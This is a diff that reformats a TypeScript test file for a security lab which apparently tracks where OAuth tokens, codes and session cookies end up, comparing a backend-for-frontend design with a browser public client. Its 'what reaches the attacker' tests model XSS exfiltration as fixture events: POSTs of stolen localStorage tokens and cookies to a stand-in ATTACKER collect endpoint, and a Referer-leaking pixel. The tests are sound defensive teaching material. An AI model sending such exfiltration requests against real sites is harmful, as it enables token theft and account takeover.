@@ -59,21 +59,68 @@ function bffSignIn() {
   const verifier = opaque();
   const cookie = opaque();
   const newCookie = opaque();
-  const tokens = { access_token: accessToken(), refresh_token: opaque(), id_token: idToken(), token_type: 'Bearer', expires_in: 300, scope: 'notes:read notes:write' };
+  const tokens = {
+    access_token: accessToken(),
+    refresh_token: opaque(),
+    id_token: idToken(),
+    token_type: 'Bearer',
+    expires_in: 300,
+    scope: 'notes:read notes:write',
+  };
   const events = [
-    { from: 'user-agent', to: 'bff', method: 'GET', url: `${APP}/bff/login?returnTo=%2F`, status: 302,
-      responseHeaders: { location: `${AS}/auth?client_id=bff&response_type=code&state=${state}&code_challenge=${opaque()}&code_challenge_method=S256`, 'set-cookie': `bff_session=${cookie}; path=/; samesite=lax; httponly` } },
-    { from: 'user-agent', to: 'authserver', method: 'GET', url: `${AS}/auth?client_id=bff&response_type=code&state=${state}&code_challenge=${opaque()}`, status: 303 },
-    { from: 'user-agent', to: 'authserver', method: 'GET', url: `${AS}/auth/${opaque()}`, status: 303,
-      responseHeaders: { location: `${APP}/bff/callback?code=${code}&state=${state}&iss=${encodeURIComponent(AS)}` } },
-    { from: 'bff', to: 'authserver', method: 'POST', url: `${AS}/token`, channel: 'back',
+    {
+      from: 'user-agent',
+      to: 'bff',
+      method: 'GET',
+      url: `${APP}/bff/login?returnTo=%2F`,
+      status: 302,
+      responseHeaders: {
+        location: `${AS}/auth?client_id=bff&response_type=code&state=${state}&code_challenge=${opaque()}&code_challenge_method=S256`,
+        'set-cookie': `bff_session=${cookie}; path=/; samesite=lax; httponly`,
+      },
+    },
+    {
+      from: 'user-agent',
+      to: 'authserver',
+      method: 'GET',
+      url: `${AS}/auth?client_id=bff&response_type=code&state=${state}&code_challenge=${opaque()}`,
+      status: 303,
+    },
+    {
+      from: 'user-agent',
+      to: 'authserver',
+      method: 'GET',
+      url: `${AS}/auth/${opaque()}`,
+      status: 303,
+      responseHeaders: { location: `${APP}/bff/callback?code=${code}&state=${state}&iss=${encodeURIComponent(AS)}` },
+    },
+    {
+      from: 'bff',
+      to: 'authserver',
+      method: 'POST',
+      url: `${AS}/token`,
+      channel: 'back',
       requestBody: `grant_type=authorization_code&code=${code}&redirect_uri=${encodeURIComponent(`${APP}/bff/callback`)}&code_verifier=${verifier}`,
-      responseBody: JSON.stringify(tokens) },
-    { from: 'user-agent', to: 'bff', method: 'GET', url: `${APP}/bff/callback?code=${code}&state=${state}&iss=${encodeURIComponent(AS)}`, status: 302,
+      responseBody: JSON.stringify(tokens),
+    },
+    {
+      from: 'user-agent',
+      to: 'bff',
+      method: 'GET',
+      url: `${APP}/bff/callback?code=${code}&state=${state}&iss=${encodeURIComponent(AS)}`,
+      status: 302,
       requestHeaders: { cookie: `bff_session=${cookie}` },
-      responseHeaders: { location: '/', 'set-cookie': `bff_session=${newCookie}; path=/; expires=Thu, 01 Jan 2026 18:00:00 GMT; samesite=lax; httponly` } },
+      responseHeaders: { location: '/', 'set-cookie': `bff_session=${newCookie}; path=/; expires=Thu, 01 Jan 2026 18:00:00 GMT; samesite=lax; httponly` },
+    },
     { from: 'user-agent', to: 'bff', method: 'GET', url: `${APP}/api/notes`, requestHeaders: { 'x-csrf': '1', cookie: `bff_session=${newCookie}` } },
-    { from: 'bff', to: 'resource-api', method: 'GET', url: `${API}/notes`, channel: 'back', requestHeaders: { authorization: `Bearer ${tokens.access_token}` } },
+    {
+      from: 'bff',
+      to: 'resource-api',
+      method: 'GET',
+      url: `${API}/notes`,
+      channel: 'back',
+      requestHeaders: { authorization: `Bearer ${tokens.access_token}` },
+    },
   ] as const;
   return { events: events.map((event) => ({ ...event })), code, state, cookie: newCookie, tokens };
 }
@@ -83,8 +130,25 @@ describe('deriveHoldings: the BFF pattern', () => {
     const holdings = deriveHoldings(trace(...bffSignIn().events));
     expect(table(holdings)).toEqual({
       'user-agent': { 'session-cookie': 'held', state: 'spent', 'authorization-code': 'spent' },
-      bff: { 'client-secret': 'held', 'session-cookie': 'held', state: 'spent', 'pkce-verifier': 'spent', 'authorization-code': 'spent', 'access-token': 'held', 'refresh-token': 'held', 'id-token': 'held' },
-      authserver: { 'client-secret': 'held', state: 'spent', 'pkce-verifier': 'spent', 'authorization-code': 'spent', 'access-token': 'held', 'refresh-token': 'held', 'id-token': 'held' },
+      bff: {
+        'client-secret': 'held',
+        'session-cookie': 'held',
+        state: 'spent',
+        'pkce-verifier': 'spent',
+        'authorization-code': 'spent',
+        'access-token': 'held',
+        'refresh-token': 'held',
+        'id-token': 'held',
+      },
+      authserver: {
+        'client-secret': 'held',
+        state: 'spent',
+        'pkce-verifier': 'spent',
+        'authorization-code': 'spent',
+        'access-token': 'held',
+        'refresh-token': 'held',
+        'id-token': 'held',
+      },
       'resource-api': { 'access-token': 'held' },
     });
     // Only the challenge left the BFF: the first sighting of the verifier says so.
@@ -95,9 +159,13 @@ describe('deriveHoldings: the BFF pattern', () => {
 
   it('a code redemption the authorization server refuses (400 invalid_grant) spends nothing and hands out no token', () => {
     const { events } = bffSignIn();
-    const refused = events.slice(0, 4).map((event) =>
-      event.url === `${AS}/token` ? { ...event, status: 400, responseBody: '{"error":"invalid_grant","error_description":"grant request is invalid"}' } : event,
-    );
+    const refused = events
+      .slice(0, 4)
+      .map((event) =>
+        event.url === `${AS}/token`
+          ? { ...event, status: 400, responseBody: '{"error":"invalid_grant","error_description":"grant request is invalid"}' }
+          : event,
+      );
     expect(table(deriveHoldings(trace(...refused)))).toEqual({
       'user-agent': { 'session-cookie': 'held', state: 'held', 'authorization-code': 'held' },
       bff: { 'client-secret': 'held', 'session-cookie': 'held', state: 'held', 'pkce-verifier': 'held', 'authorization-code': 'held' },
@@ -108,14 +176,26 @@ describe('deriveHoldings: the BFF pattern', () => {
   it('sign-out ends the cookie in the browser and the tokens in the BFF; a new sign-in holds them again', () => {
     const first = bffSignIn();
     const logout = {
-      from: 'user-agent', to: 'bff', method: 'POST', url: `${APP}/bff/logout`,
+      from: 'user-agent',
+      to: 'bff',
+      method: 'POST',
+      url: `${APP}/bff/logout`,
       requestHeaders: { 'x-csrf': '1', cookie: `bff_session=${first.cookie}` },
-      responseHeaders: { 'set-cookie': 'bff_session=; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT; samesite=lax; httponly, bff_session.sig=abc; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT; samesite=lax; httponly' },
+      responseHeaders: {
+        'set-cookie':
+          'bff_session=; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT; samesite=lax; httponly, bff_session.sig=abc; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT; samesite=lax; httponly',
+      },
       responseBody: JSON.stringify({ signedOut: true, logoutUrl: `${AS}/session/end?client_id=bff` }),
     } as const;
     const signedOut = table(deriveHoldings(trace(...first.events, logout)));
     expect(signedOut['user-agent']).toEqual({ 'session-cookie': 'gone', state: 'spent', 'authorization-code': 'spent' });
-    expect(signedOut.bff).toMatchObject({ 'session-cookie': 'gone', 'access-token': 'gone', 'refresh-token': 'gone', 'id-token': 'gone', 'client-secret': 'held' });
+    expect(signedOut.bff).toMatchObject({
+      'session-cookie': 'gone',
+      'access-token': 'gone',
+      'refresh-token': 'gone',
+      'id-token': 'gone',
+      'client-secret': 'held',
+    });
 
     const again = table(deriveHoldings(trace(...first.events, logout, ...bffSignIn().events.slice(0, 1))));
     expect(again['user-agent']?.['session-cookie']).toBe('held');
@@ -124,7 +204,14 @@ describe('deriveHoldings: the BFF pattern', () => {
 
   it('a sign-out the BFF refuses (403, no X-CSRF) ends nothing', () => {
     const first = bffSignIn();
-    const forged = { from: 'user-agent', to: 'bff', method: 'POST', url: `${APP}/bff/logout`, status: 403, responseBody: '{"error":"csrf_header_missing","message":"…"}' } as const;
+    const forged = {
+      from: 'user-agent',
+      to: 'bff',
+      method: 'POST',
+      url: `${APP}/bff/logout`,
+      status: 403,
+      responseBody: '{"error":"csrf_header_missing","message":"…"}',
+    } as const;
     expect(table(deriveHoldings(trace(...first.events, forged)))).toEqual(table(deriveHoldings(trace(...first.events))));
   });
 });
@@ -134,15 +221,40 @@ describe('deriveHoldings: the public client (the anti-pattern)', () => {
     const id = idToken();
     const holdings = deriveHoldings(
       trace(
-        { from: 'user-agent', to: 'authserver', method: 'GET', url: `${AS}/auth?client_id=spa-public&state=${opaque()}&code_challenge=${opaque()}`, status: 303 },
-        { from: 'spa', to: 'authserver', method: 'POST', url: `${AS}/token`, requestHeaders: { origin: APP },
+        {
+          from: 'user-agent',
+          to: 'authserver',
+          method: 'GET',
+          url: `${AS}/auth?client_id=spa-public&state=${opaque()}&code_challenge=${opaque()}`,
+          status: 303,
+        },
+        {
+          from: 'spa',
+          to: 'authserver',
+          method: 'POST',
+          url: `${AS}/token`,
+          requestHeaders: { origin: APP },
           requestBody: `grant_type=authorization_code&code=${opaque()}&code_verifier=${opaque()}&client_id=spa-public`,
-          responseBody: JSON.stringify({ access_token: accessToken(), refresh_token: opaque(), id_token: id }) },
-        { from: 'user-agent', to: 'authserver', method: 'GET', url: `${AS}/session/end?id_token_hint=${id}&post_logout_redirect_uri=${encodeURIComponent(`${APP}/`)}`, status: 200 },
+          responseBody: JSON.stringify({ access_token: accessToken(), refresh_token: opaque(), id_token: id }),
+        },
+        {
+          from: 'user-agent',
+          to: 'authserver',
+          method: 'GET',
+          url: `${AS}/session/end?id_token_hint=${id}&post_logout_redirect_uri=${encodeURIComponent(`${APP}/`)}`,
+          status: 200,
+        },
       ),
     );
     // `spa` is the app's code in the browser: one holder with the User Agent. The redeemed code ends its login's state too.
-    expect(table(holdings)['user-agent']).toEqual({ state: 'spent', 'pkce-verifier': 'spent', 'authorization-code': 'spent', 'access-token': 'held', 'refresh-token': 'held', 'id-token': 'held' });
+    expect(table(holdings)['user-agent']).toEqual({
+      state: 'spent',
+      'pkce-verifier': 'spent',
+      'authorization-code': 'spent',
+      'access-token': 'held',
+      'refresh-token': 'held',
+      'id-token': 'held',
+    });
     expect(howOf(holdings, 'user-agent', 'pkce-verifier')).toBe('made it; its challenge is in GET /auth');
     expect(table(holdings).bff).toEqual({ 'client-secret': 'held' });
   });
@@ -150,10 +262,23 @@ describe('deriveHoldings: the public client (the anti-pattern)', () => {
 
 describe('deriveHoldings: what reaches the attacker', () => {
   it('an XSS that sends localStorage away (public client): she holds the access, ID and refresh tokens', () => {
-    const stolen = { 'lab.access_token': accessToken(), 'lab.refresh_token': opaque(), 'lab.id_token': idToken(), 'lab.access_token_expires_at': '1767261600000', 'lab.mode': 'public-client' };
+    const stolen = {
+      'lab.access_token': accessToken(),
+      'lab.refresh_token': opaque(),
+      'lab.id_token': idToken(),
+      'lab.access_token_expires_at': '1767261600000',
+      'lab.mode': 'public-client',
+    };
     const holdings = deriveHoldings(
-      trace({ from: 'user-agent', to: 'attacker', method: 'POST', url: `${ATTACKER}/collect/steal-storage`, status: 204,
-        requestHeaders: { 'content-type': 'text/plain' }, requestBody: JSON.stringify({ cookie: '', localStorage: stolen, sessionStorage: {} }) }),
+      trace({
+        from: 'user-agent',
+        to: 'attacker',
+        method: 'POST',
+        url: `${ATTACKER}/collect/steal-storage`,
+        status: 204,
+        requestHeaders: { 'content-type': 'text/plain' },
+        requestBody: JSON.stringify({ cookie: '', localStorage: stolen, sessionStorage: {} }),
+      }),
     );
     // The refresh token is opaque (no JWT): the most valuable of the three, and the one a learner must see stolen.
     expect(table(holdings).attacker).toEqual({ 'access-token': 'held', 'id-token': 'held', 'refresh-token': 'held' });
@@ -161,34 +286,66 @@ describe('deriveHoldings: what reaches the attacker', () => {
   });
 
   it('an XSS that redeems its own code and reports the token response: she holds every token of that response', () => {
-    const report = { clientId: 'spa-public', code: opaque(), codeVerifier: opaque(), token: { status: 200, body: { access_token: accessToken(), refresh_token: opaque(), id_token: idToken() } } };
+    const report = {
+      clientId: 'spa-public',
+      code: opaque(),
+      codeVerifier: opaque(),
+      token: { status: 200, body: { access_token: accessToken(), refresh_token: opaque(), id_token: idToken() } },
+    };
     const holdings = deriveHoldings(
-      trace({ from: 'user-agent', to: 'attacker', method: 'POST', url: `${ATTACKER}/collect/silent-authorize`, status: 204, requestBody: JSON.stringify(report) }),
+      trace({
+        from: 'user-agent',
+        to: 'attacker',
+        method: 'POST',
+        url: `${ATTACKER}/collect/silent-authorize`,
+        status: 204,
+        requestBody: JSON.stringify(report),
+      }),
     );
     expect(table(holdings).attacker).toMatchObject({ 'access-token': 'held', 'id-token': 'held', 'refresh-token': 'held' });
   });
 
   it('the session cookie read by a script (HttpOnly weakened) and sent away: she holds the session cookie', () => {
     const session = opaque();
-    const events = trace({ from: 'user-agent', to: 'attacker', method: 'POST', url: `${ATTACKER}/collect/steal-storage`, status: 204,
-      requestBody: JSON.stringify({ cookie: `bff_session=${session}; bff_session.sig=${opaque()}`, localStorage: {}, sessionStorage: {} }) });
+    const events = trace({
+      from: 'user-agent',
+      to: 'attacker',
+      method: 'POST',
+      url: `${ATTACKER}/collect/steal-storage`,
+      status: 204,
+      requestBody: JSON.stringify({ cookie: `bff_session=${session}; bff_session.sig=${opaque()}`, localStorage: {}, sessionStorage: {} }),
+    });
     expect(table(deriveHoldings(events)).attacker).toEqual({ 'session-cookie': 'held' });
     // The trace keeps the cookie's name and shortens its value, as for a Cookie header.
-    expect(events[0]!.requestBody).toBe(`{"cookie":"bff_session=${session.slice(0, 6)}…(43 chars); bff_session.sig=${events[0]!.requestBody!.split('bff_session.sig=')[1]!.slice(0, 6)}…(43 chars)","localStorage":{},"sessionStorage":{}}`);
+    expect(events[0]!.requestBody).toBe(
+      `{"cookie":"bff_session=${session.slice(0, 6)}…(43 chars); bff_session.sig=${events[0]!.requestBody!.split('bff_session.sig=')[1]!.slice(0, 6)}…(43 chars)","localStorage":{},"sessionStorage":{}}`,
+    );
     expect(events[0]!.requestBody).not.toContain(session);
   });
 
   it('nothing token-like sent to her (an empty storage): she holds nothing', () => {
     const holdings = deriveHoldings(
-      trace({ from: 'user-agent', to: 'attacker', method: 'POST', url: `${ATTACKER}/collect/steal-storage`, status: 204,
-        requestBody: JSON.stringify({ cookie: '', localStorage: { 'lab.mode': 'bff' }, sessionStorage: {} }) }),
+      trace({
+        from: 'user-agent',
+        to: 'attacker',
+        method: 'POST',
+        url: `${ATTACKER}/collect/steal-storage`,
+        status: 204,
+        requestBody: JSON.stringify({ cookie: '', localStorage: { 'lab.mode': 'bff' }, sessionStorage: {} }),
+      }),
     );
     expect(table(holdings).attacker).toBeUndefined();
   });
 
   it('the callback URL in the Referer of her pixel (Referrer-Policy weakened): she holds the authorization code', () => {
     const { events, code } = bffSignIn();
-    const pixel = { from: 'user-agent', to: 'attacker', method: 'GET', url: `${ATTACKER}/pixel.gif?from=callback`, requestHeaders: { referer: `${APP}/bff/callback?code=${code}&state=${opaque()}` } } as const;
+    const pixel = {
+      from: 'user-agent',
+      to: 'attacker',
+      method: 'GET',
+      url: `${ATTACKER}/pixel.gif?from=callback`,
+      requestHeaders: { referer: `${APP}/bff/callback?code=${code}&state=${opaque()}` },
+    } as const;
     const holdings = deriveHoldings(trace(...events.slice(0, 3), pixel));
     expect(table(holdings).attacker).toEqual({ 'authorization-code': 'held' });
     expect(howOf(holdings, 'attacker', 'authorization-code')).toBe('in the Referer of GET /pixel.gif');
